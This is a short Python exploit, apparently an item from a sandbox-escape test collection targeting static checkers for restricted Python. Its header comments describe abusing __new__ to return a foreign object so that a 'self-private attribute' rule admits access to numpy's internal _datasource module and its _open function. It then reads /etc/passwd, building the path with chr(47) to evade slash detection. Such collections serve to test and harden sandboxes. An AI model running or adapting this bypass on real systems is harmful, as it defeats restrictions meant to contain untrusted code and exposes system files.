# source: Python object model - __new__ may return any object, and then __init__ is skipped; the check types Cls(...) as an instance of Cls (RestrictedPython/asteval-style type confusion)
# family: object model hooks / __new__ returning a foreign object so self-private attribute rule applies to a module
# goal: numpy.lib._datasource module and io.open via _open: read /etc/passwd
import numpy as np

class Cache:
    def __new__(cls, target):
        return target

    def __init__(self, target):
        self._datasource = None
        self._open = None

ds = Cache(np.lib)._datasource
op = Cache(ds)._open
print(ds, op)
root = chr(47)
print(op(root + "etc" + root + "passwd").read()[:120])
